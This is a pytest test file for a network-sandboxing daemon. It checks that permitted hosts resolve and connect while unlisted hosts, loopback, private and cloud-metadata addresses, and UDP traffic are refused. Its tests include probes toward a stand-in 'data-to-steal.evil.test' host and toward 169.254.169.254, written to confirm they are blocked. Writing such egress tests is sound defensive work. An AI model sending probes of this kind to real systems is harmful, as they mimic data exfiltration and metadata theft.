"""The core of a scoped network with the real owhaled: names, redirected connections, and what it keeps from a run."""

import http.server
import shutil
import threading

import pytest

import accounts
import daemon
from accounts import QUICK
from conftest import ALICE, needs_root
from names import Names

pytestmark = needs_root


class Web:
    def __init__(self, address):
        self.paths = paths = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "6")
                self.end_headers()
                self.wfile.write(b"hello\n")

            def log_message(self, *ignored):
                pass

        self.server = http.server.ThreadingHTTPServer((address, 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def names():
    names = Names()
    yield names
    names.close()


@pytest.fixture
def web(names):
    web = Web("127.78.0.1")
    names.table["web.test"] = "127.78.0.1"
    yield web
    web.server.shutdown()
    web.server.server_close()


# What is tested is what the network does, not what is asked before: every command may, and an unknown host is refused.
RULE = """
[[rule]]
id = "egress.all"
decision = "allow"
reason = "The network is what is tested."
program = ["bash", "curl", "getent", "python3", "head", "echo", "sleep", "--allow-host"]
ceiling = { net = "host" }
overrides = ["*"]
match = ["curl https://web.test"]
no_match = ["perl x"]
"""
QUIET = 'extends = "build"\ndescription = "As build; an unknown host is refused without a question."\n[network]\nasks = false\n'


class Quiet(daemon.Owhaled):
    def __init__(self, base, *flags):
        super().__init__(base, *QUICK, "--mode", "local", *flags)
        self.rule("egress.toml", RULE)
        self.profiles = base / "profiles"
        shutil.copytree(daemon.TOP / "profiles", self.profiles)
        (self.profiles / "quiet.toml").write_text(QUIET)
        for path in (self.profiles, *self.profiles.iterdir()):
            path.chmod(0o755)

    def command(self):
        words = super().command()
        words[words.index("--profile-dir") + 1] = str(self.profiles)
        return words


@pytest.fixture
def house(base, names):
    d = Quiet(base, "--dns", names.at).start()
    d.admin = accounts.set_up(d)
    yield d
    d.stop()


def rules(web):
    return [{"host": "web.test", "ports": [web.port]}, {"host": "127.78.0.1", "ports": [web.port]}]


def sh(d, text, **more):
    return d.ran(ALICE, argv=["bash", "-c", text], profile="quiet", **more)


def tries(run, host):
    return [row for row in run["network"]["hosts"] if row["host"] == host]


def test_a_program_that_knows_no_proxy_reaches_a_named_host(house, web):
    run = sh(house, f"curl -sS --max-time 10 --noproxy '*' http://web.test:{web.port}/x", allow_hosts=rules(web))
    assert run["stdout"] == "hello\n", run
    [row] = tries(run, "web.test")
    assert row["verdict"] == "allow" and row["how"] == "http" and row["address"] == "127.78.0.1", row


def test_programs_that_ask_what_addresses_there_are_resolve(house, web):
    """AI_ADDRCONFIG: getent asks so, and so do wget and most of what is built on getaddrinfo(3)."""
    run = sh(house, "getent ahostsv4 web.test | head -1", allow_hosts=rules(web))
    assert run["stdout"].startswith("198.18.0."), run


def test_names_stand_for_themselves_and_nothing_is_asked(house, web, names):
    run = sh(house, "getent ahosts web.test | head -1; getent ahosts data-to-steal.evil.test || echo none",
             allow_hosts=rules(web))
    assert run["stdout"].startswith(("198.18.0.", "fd6f:7768:616c::")) and run["stdout"].endswith("none\n"), run
    assert names.asked == []
    assert tries(run, "data-to-steal.evil.test")[0]["verdict"] == "deny"
    assert "owhaled: data-to-steal.evil.test was refused: no rule allows it" in run["stderr"], run


def test_a_name_that_leads_to_a_private_address_is_refused(house, web):
    run = sh(house, f"curl -sS --max-time 10 http://web.test:{web.port}/ || echo refused", allow_hosts=rules(web)[:1])
    assert "127.78.0.1 is loopback" in run["stderr"], run
    assert web.paths == []


@pytest.mark.parametrize("address", ["127.78.0.1", "169.254.169.254", "10.0.0.1", "[::ffff:127.78.0.1]", "[64:ff9b::7f4e:1]"])
def test_an_address_that_no_rule_names_is_refused(house, web, address):
    run = sh(house, f"curl -sS --max-time 5 http://{address}:{web.port}/; curl -sS --max-time 5 --noproxy '*' -g http://{address}:{web.port}/",
             allow_hosts=rules(web)[:1])
    assert "hello" not in run["stdout"] and web.paths == [], run


def test_datagrams_are_told_and_dropped(house, web):
    run = sh(house, "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b\"x\", (\"192.0.2.7\", 443))'; sleep 0.3",
             allow_hosts=rules(web))
    rows = tries(run, "192.0.2.7")
    assert rows and rows[0]["how"] == "udp" and rows[0]["verdict"] == "deny", run["network"]


def test_egress_off_leaves_no_network(own, web):
    d = own(*QUICK, "--mode", "local", "--egress", "off").start()
    accounts.set_up(d)
    answer = d.run(ALICE, argv=["true"], net="scoped", wait=True)
    assert answer.json()["code"] == "unsupported", answer
